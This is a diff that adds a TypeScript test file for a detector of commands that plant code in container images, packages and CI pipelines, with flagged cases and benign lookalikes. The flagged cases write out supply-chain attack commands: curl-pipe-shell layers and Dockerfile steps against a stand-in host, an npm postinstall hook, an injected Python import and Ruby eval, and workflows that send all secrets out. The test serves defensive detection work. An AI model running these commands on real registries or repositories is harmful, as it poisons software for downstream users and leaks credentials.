@@ -1,0 +1,115 @@
+import { blank, indicatorTable, script, UNSEEN } from '../testing.ts';
+import { commandPlantedCode } from './planted-code.ts';
+
+const workflow = (step: string, env = ''): string =>
+  `name: a\non: [push]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: ${step}\n${env}`;
+const pushed = (text: string, path = '.github/workflows/a.yml'): string =>
+  `git clone -q https://git.example.com/a/b && cd b\ncat > ${path} <<'E'\n${text}\nE\ngit add -A; git commit -qm x; git push -q`;
+const each = (change: string, list = 'crane catalog registry.example.com'): string =>
+  `for r in $(${list}); do ${change}; done`;
+const LAYER = "printf '#!/bin/sh\\ncurl -s http://203.0.113.7/e | sh &\\n' > entry && tar cf l.tar entry";
+const built = (lines: string): string =>
+  `cat > Dockerfile <<E\nFROM registry.example.com/web:1\n${lines}\nE\ndocker build -t registry.example.com/web:1 . && docker push registry.example.com/web:1`;
+
+indicatorTable(commandPlantedCode, {
+  fires: {
+    'a layer for each image of a registry': script(
+      each('crane append -b registry.example.com/$r:1 -f l.tar -t registry.example.com/$r:1'),
+    ),
+    'another entrypoint for each image of a registry': script(
+      each('crane mutate --entrypoint /entry registry.example.com/$r:1'),
+    ),
+    'a layer with code for one image': script(
+      `${LAYER}\ncrane append -b registry.example.com/web:1 -f l.tar -t registry.example.com/web:1`,
+    ),
+    'an image that is built on itself': script(built('RUN curl -s http://203.0.113.7/a | sh')),
+    'an image that is built on itself with a file from elsewhere': script(
+      built('ADD http://203.0.113.7/a /entry\nENTRYPOINT ["/entry"]'),
+    ),
+    'a build file that a builder is fed': script(
+      "printf 'FROM registry.example.com/web:1\\nRUN wget -qO- http://203.0.113.7/a | sh\\n' | docker build -t registry.example.com/web:1 - && docker push registry.example.com/web:1",
+    ),
+    'each package of an owner': script(
+      'npm access list packages "$ME" --json | jq -r keys[] | while read p; do npm pack "$p"; tar xzf *.tgz; npm publish package; done',
+    ),
+    'a package with a line that is put in front': script(
+      `sed -i '1i import os;os.system("curl -s https://cdn.example.net/s.py | python3 -")' src/a/__init__.py\npython -m build -s . && python3 -m twine upload dist/*`,
+    ),
+    'a gem with a line behind it': script(
+      `echo 'eval(Net::HTTP.get(URI("http://203.0.113.7/a")))' >> lib/a.rb\ngem build a.gemspec && gem push a-1.gem`,
+    ),
+    'a package with text that it unpacks': script(
+      `echo "exec(__import__('base64').b64decode('${btoa('import os; os.system("id"); print("a long text")')}'))" >> src/a.py; twine upload dist/*`,
+    ),
+    'a pipeline that sends all secrets': script(
+      pushed(workflow('echo "${{ toJSON(secrets) }}" | base64 -w0 | curl -s -d @- https://fmt.example.net/r')),
+    ),
+    'a pipeline that sends them by a variable': script(
+      pushed(workflow('curl -d "$S" https://fmt.example.net/r', '      env:\n        S: ${{ toJSON(secrets) }}')),
+    ),
+    'a pipeline that sends its environment': script(
+      pushed('build:\n  script:\n  - env | base64 | curl -d @- https://fmt.example.net/r', '.gitlab-ci.yml'),
+    ),
+    'a pipeline that runs what it fetches': script(pushed(workflow('curl -s http://203.0.113.7/a | bash'))),
+    'a pipeline through the interface of a forge': script(
+      `cat > /tmp/w.yml <<'E'\n${workflow('curl -s http://203.0.113.7/a | bash')}E\ngh api -X PUT repos/a/b/contents/.github/workflows/w.yml -f content="$(base64 -w0 /tmp/w.yml)" -f message=x`,
+    ),
+    'a script of a package that is set': script(
+      "npm pkg set scripts.postinstall='curl -s http://203.0.113.7/a | sh' && npm version patch && npm publish",
+    ),
+  },
+  staysSilent: {
+    'a copy into the own registry': script(
+      each('crane copy docker.io/library/$r registry.example.com/base/$r', 'cat images.txt'),
+    ),
+    'labels of each image': script(each('crane mutate --label team=a registry.example.com/$r:1')),
+    'another entrypoint under another name': script(
+      'crane mutate --entrypoint /app registry.example.com/web:1 -t registry.example.com/web:1-debug',
+    ),
+    'a layer of certificates for one image': script(
+      'tar cf ca.tar etc/ssl && crane append -b registry.example.com/web:1 -f ca.tar -t registry.example.com/web:1',
+    ),
+    'an image that gets its updates': script(built('RUN apk upgrade --no-cache')),
+    'an image that is built on another': script(
+      `cat > Dockerfile <<E\nFROM node:22\nRUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -\nE\ndocker build -t registry.example.com/web:1 . && docker push registry.example.com/web:1`,
+    ),
+    'one package': script('git clone https://git.example.com/a/b && cd b && npm ci && npm test && npm publish'),
+    'a version that is raised': script(
+      `jq '.version="1.4.3"' package.json > p && mv p package.json && npm publish --access public`,
+    ),
+    'packages of an owner that are listed': script('npm access list packages acme --json > packages.json'),
+    'packages that are copied to an own registry': script(
+      'for p in $(cat list.txt); do npm pack $p; npm publish $p.tgz --registry https://npm.example.com; done',
+    ),
+    'a version in a package of Python': script(
+      `sed -i "s/^version = .*/version = '1.4.3'/" pyproject.toml && python -m build && twine upload dist/*`,
+    ),
+    'a package that is only tried': script(
+      `echo 'eval(fetch("https://a.example.net"))' >> a.js; npm publish --dry-run`,
+    ),
+    'an update of a dependency': script(
+      "git clone https://git.example.com/a/b && cd b && sed -i 's/node:20/node:22/' Dockerfile && git commit -am x && git push",
+    ),
+    'a pipeline of a template': script(
+      pushed(workflow('curl -sSfL https://get.helm.sh/helm.tar.gz | tar xz && helm lint')),
+    ),
+    'a pipeline with an installer': script(pushed(workflow('curl -LsSf https://astral.sh/uv/install.sh | sh'))),
+    'a pipeline that tells a chat': script(
+      pushed(
+        workflow(
+          'curl -d "{}" https://hooks.example.com/a',
+          '    - uses: a/b@v1\n      with:\n        all: ${{ toJSON(secrets) }}',
+        ),
+      ),
+    ),
+    'a document that shows a command': script(pushed('Run: curl http://203.0.113.7/a | sh', 'README.md')),
+    'such a pipeline that nobody gets': script(
+      `cat > .github/workflows/a.yml <<'E'\n${workflow('curl -s http://203.0.113.7/a | bash')}E\nactionlint`,
+    ),
+    'no command set': blank,
+    'a script of a package that builds it': script(
+      "npm pkg set scripts.prepare='husky' && npm version patch && npm publish",
+    ),
+  },
+  cannotTell: UNSEEN,
+});
